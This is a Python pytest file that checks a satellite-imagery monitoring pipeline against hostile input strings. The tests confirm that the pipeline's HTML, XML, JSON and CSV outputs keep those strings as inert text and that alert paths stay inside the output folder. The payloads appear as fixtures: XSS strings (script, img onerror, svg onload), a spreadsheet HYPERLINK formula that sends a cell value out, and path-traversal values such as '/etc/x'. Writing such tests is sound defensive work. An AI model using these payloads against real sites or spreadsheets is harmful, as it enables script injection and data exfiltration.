"""Texts from outside (names, zones, band names, tags, STAC properties) stay texts in all that people open."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest
from corpus.case import GRID, built, ground
from imagery import write
from jobs import groundbreak

from pipeline.config.reading import read_site_file
from pipeline.errors import ConfigError
from pipeline.outputs.sheets import csv_text
from pipeline.scenes import describe

SCRIPT = (
    "</title></script><script>alert(4711)</script><img src=x onerror=alert(4711)><svg/onload=alert(4711)>\"'"
)
FORMULA = '=HYPERLINK("http://127.0.0.2/?"&A1,"4711")'
DAYS = ("2019-09-09", "2019-09-21")


class Page(HTMLParser):
    """What a browser would run or fetch of a page."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.policy = ""
        self._in_script = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag in {"script", "style"}
        told = {name: value or "" for name, value in attrs}
        if told.get("http-equiv", "").lower() == "content-security-policy":
            self.policy = told["content"]
        for name, value in told.items():
            if name.startswith("on") or value.strip().lower().startswith("javascript:"):
                self.live.append(f"{tag} {name}={value}")
            if name in {"src", "href", "action", "data"} and "4711" in value:
                self.live.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and "alert(4711)" in data:
            self.live.append(data)


@pytest.fixture(scope="module")
def watched(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What `monitor` leaves of a site that is hostile wherever a text may stand."""
    folder = tmp_path_factory.mktemp("hostile")
    values = dict(zip(DAYS, (ground(), built(ground())), strict=True))
    for day, pixels in values.items():
        tags = {"IMAGEDESCRIPTION": SCRIPT, "SOFTWARE": SCRIPT, "A<b>": SCRIPT}
        names = ["blue", "green", "red", f"nir {SCRIPT}"[:60]]
        path = write(folder / f"<b>{day}.tif", pixels, GRID, names=names, tags=tags, nodata=0)
        (told,) = describe(path, date=day)
        told.id = SCRIPT
        told.properties |= {"title": SCRIPT, "constellation": SCRIPT, "platform": FORMULA, SCRIPT: SCRIPT}
        told.assets = {f"image{SCRIPT}": told.assets["image"]}
        (folder / f"{day}.json").write_text(json.dumps(told.to_dict()))
    box = list(GRID.extent.to_crs("EPSG:4326").boundingbox.bbox)
    west, east = [*box[:2], (box[0] + box[2]) / 2, box[3]], [(box[0] + box[2]) / 2, *box[1:]]
    site = {
        "id": "hostile",
        "name": SCRIPT,
        "source": {"items": "{date}.json"},
        "zones": {FORMULA: west, SCRIPT: east},
        "alerts": [
            {
                "name": SCRIPT,
                "status": "candidate, confirmed",
                "to": [{"file": "told.jsonl"}, {"atom": "told.xml"}],
            }
        ],
        "detector": "classic",
        "smart": {"region_id": "SY_R001", "originator": SCRIPT},
    }
    (folder / "hostile.yaml").write_text(json.dumps(site))
    told = groundbreak("monitor", folder / "hostile.yaml", "--out", folder / "out", "--json", "--quiet")
    outcomes = json.loads(told.stdout)["outcomes"]
    assert [one["status"] for one in outcomes] == ["done"], outcomes
    assert outcomes[0]["findings"] > 0
    return folder / "out"


def test_pages_run_nothing_of_it(watched: Path) -> None:
    pages = sorted(watched.rglob("*.html"))
    assert pages
    for path in pages:
        text = path.read_text(encoding="utf-8")
        page = Page(text)
        assert page.live == [], path
        assert "default-src 'none'" in page.policy, path
        assert "unsafe" not in page.policy, path
    assert "4711" in pages[-1].read_text(encoding="utf-8")  # it is shown, as text


def test_xml_and_json_are_whole(watched: Path) -> None:
    for path in [*watched.rglob("*.xml"), *watched.rglob("*.svg"), *watched.rglob("*.kml")]:
        ElementTree.parse(path)
    feed = next(watched.rglob("told.xml")).read_text(encoding="utf-8")
    assert "<script" not in feed
    assert "alert(4711)" in feed
    for path in [*watched.rglob("*.json"), *watched.rglob("*.geojson")]:
        json.loads(path.read_text(encoding="utf-8"))
    for line in next(watched.rglob("told.jsonl")).read_text(encoding="utf-8").splitlines():
        assert json.loads(line)["rule"] == SCRIPT


def test_tables_hold_no_formulas(watched: Path) -> None:
    tables = sorted(watched.rglob("*.csv"))
    assert {path.name for path in tables} >= {"timeline.csv", "zones.csv", "phases.csv"}
    cells = [
        cell for path in tables for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row
    ]
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert f"'{FORMULA}" in cells


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1"])
def test_a_text_that_would_be_a_formula(text: str) -> None:
    table = pd.DataFrame({"zone": [text, "a=b", None], "area": [-1.5, 2.0, float("nan")]})
    told = list(csv.reader(io.StringIO(csv_text(table), newline="")))
    assert told[1][0] == "'" + text.replace("\r", "\n")
    assert [row[0] for row in told[2:]] == ["a=b", ""]
    assert told[1][1] == "-1.5"


def test_a_carriage_return_begins_no_row() -> None:
    told = csv_text(pd.DataFrame({"zone": ["a\r=1+1", "b\r\n=1+1"]}))
    assert list(csv.reader(io.StringIO(told, newline=""))) == [["zone"], ["a\n=1+1"], ["b\n=1+1"]]


@pytest.mark.parametrize("path", ["../../x", "/etc/x", "..", ".", "a/../../../x", "", "../.."])
@pytest.mark.parametrize("kind", ["file", "atom"])
def test_alerts_stay_in_the_output_folder(kind: str, path: str, tmp_path: Path) -> None:
    site = {"id": "a", "source": {"files": "a.tif"}, "alerts": [{"name": "a", "to": [{kind: path}]}]}
    (tmp_path / "a.yaml").write_text(json.dumps(site))
    with pytest.raises(ConfigError, match="no file in the output folder"):
        read_site_file(tmp_path / "a.yaml")


@pytest.mark.parametrize("path", ["a.jsonl", "../a.jsonl", "b/../a.jsonl", "b/c/a.jsonl"])
def test_alerts_may_be_shared_by_sites(path: str, tmp_path: Path) -> None:
    site = {"id": "a", "source": {"files": "a.tif"}, "alerts": [{"name": "a", "to": [{"file": path}]}]}
    (tmp_path / "a.yaml").write_text(json.dumps(site))
    assert read_site_file(tmp_path / "a.yaml").alerts[0].to[0].file == path
